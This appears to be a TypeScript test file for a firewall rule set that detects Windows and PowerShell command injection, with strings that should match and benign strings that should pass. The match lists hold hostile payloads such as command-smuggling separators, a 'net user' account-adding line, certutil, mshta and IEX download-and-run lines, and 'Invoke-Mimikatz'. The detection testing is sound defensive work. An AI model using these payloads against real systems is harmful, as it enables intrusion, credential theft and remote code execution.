// Commands of Windows, and words like them.

import { testRules } from './rule-examples.ts';
import { windowsRuleSet } from './windows-rule-set.ts';

const SHELL = ['COOKIE', 'QUERYARGUMENTS', 'BODY'].map((place) => `WindowsShellCommands_${place}`);
testRules(windowsRuleSet, SHELL, {
  matches: [
    '||nslookup x.example',
    ';cmd',
    '%26 dir c:\\',
    'cmd.exe /c whoami',
    'c^m^d /c dir',
    '|whoami',
    '& type c:\\boot.ini',
    '| net user hacker pass /add',
    'c:\\windows\\system32\\cmd.exe',
    '%COMSPEC%',
    '; ipconfig /all',
    '& ping -n 5 127.0.0.1',
    'certutil -urlcache -split -f http://x/a.exe',
    'wmic process call create calc',
    'reg add HKLM\\Software\\x',
    'mshta http://x.example/a.hta',
    '%SystemRoot%\\x',
  ],
  passes: [
    'dir',
    'type=2; set=4',
    'please type your name; start now',
    'net income | start date',
    'cmd',
    'command line',
    'a & b',
    'C:\\Users\\Ann\\notes.txt',
    'windows system',
    'copy; paste',
    '100%os',
    'echo and the bunnymen; echo beach',
    'salt & vinegar | find more',
    'ping',
    '50% temp% off',
    'the registry (reg) adds up',
    'for /free/ and more',
  ],
});

const POWERSHELL = ['COOKIE', 'QUERYARGUMENTS', 'BODY'].map((place) => `PowerShellCommands_${place}`);
testRules(windowsRuleSet, POWERSHELL, {
  matches: [
    'Invoke-Expression $x',
    'IEX(New-Object Net.WebClient).DownloadString("http://x/a.ps1")',
    'powershell -enc SQBFAFgA',
    'powershell.exe -NoP -NonI -W Hidden -c whoami',
    'p^ower^shell -ep bypass',
    'Invoke-WebRequest http://x.example/a',
    'Start-Process calc',
    '[System.Convert]::FromBase64String("aa")',
    'Set-ExecutionPolicy Unrestricted',
    'Get-Process | Out-File x',
    'Get-Content C:\\x.txt',
    '$env:USERNAME',
    '-ExecutionPolicy Bypass',
    'Invoke-Mimikatz',
    '"in"+Invoke-Command -ScriptBlock {1}',
  ],
  passes: [
    'powershell tutorial',
    'get-processing',
    'how to invoke an expression',
    'new object',
    'download string quartet',
    'set-content-type',
    'env:prod',
    'start-processing',
    'get-services-list',
    'converting base64 strings',
    'remove-items',
    'complex(1)',
    'execution policy',
    'start process',
    'widget-content',
  ],
});
